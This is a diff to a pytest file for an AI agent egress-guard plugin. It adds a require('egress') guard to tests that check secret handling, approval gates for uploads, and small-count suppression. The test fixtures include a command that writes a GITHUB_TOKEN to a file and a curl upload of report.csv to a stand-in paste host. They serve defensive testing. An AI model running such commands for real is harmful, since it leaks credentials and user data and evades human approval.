@@ -4,7 +4,7 @@ from __future__ import annotations
 
 import re
 
-from conftest import plugin_files
+from conftest import require, plugin_files
 
 PLUGIN = ["palisade-egress"]
 TOOLS = ["terminal", "memory"]
@@ -26,6 +26,7 @@ def term(command: str) -> dict:
 
 
 def test_credential_in_a_command_never_runs_as_is(session):
+    require('egress')
     cmd = f"echo 'export GITHUB_TOKEN={SECRET}' > leak.txt && echo wrote"
     r = session([{"user": "Save my deploy env for later.", "script": [term(cmd), {"text": "done"}]}],
                 PLUGIN, toolsets=TOOLS)
@@ -39,6 +40,7 @@ def test_credential_in_a_command_never_runs_as_is(session):
 
 
 def test_upload_to_unlisted_host_goes_to_the_approval_gate(session):
+    require('egress')
     cmd = "curl -s -d @report.csv https://paste.example.invalid/upload"
     r = session([{"user": "Share the report with Bob.", "script": [term(cmd), {"text": "ok"}]}],
                 PLUGIN, toolsets=TOOLS)
@@ -49,6 +51,7 @@ def test_upload_to_unlisted_host_goes_to_the_approval_gate(session):
 
 
 def test_upload_denied_by_the_human(session):
+    require('egress')
     cmd = "curl -s -d @report.csv https://paste.example.invalid/upload"
     r = session([{"user": "Share the report with Bob.", "script": [term(cmd), {"text": "ok"}]}],
                 PLUGIN, toolsets=TOOLS, human="deny")
@@ -66,6 +69,7 @@ def _cells(text: str) -> list[list[str]]:
 
 
 def test_small_count_in_the_reply_is_suppressed_with_complements(session):
+    require('egress')
     r = session([{"user": "Summarise the clinic table.", "script": [{"text": TABLE}]}], PLUGIN, toolsets=TOOLS)
     reply = r["turns"][0]["final_response"]
     rows = _cells(reply)
@@ -80,6 +84,7 @@ def test_small_count_in_the_reply_is_suppressed_with_complements(session):
 
 
 def test_guard_command_is_registered(session):
+    require('egress')
     r = session([{"user": "hi", "script": [{"text": "hello"}]}], PLUGIN, toolsets=TOOLS,
                 commands=[["guard", "status"], ["guard", "report"]])
     assert "guard" in r["commands"]
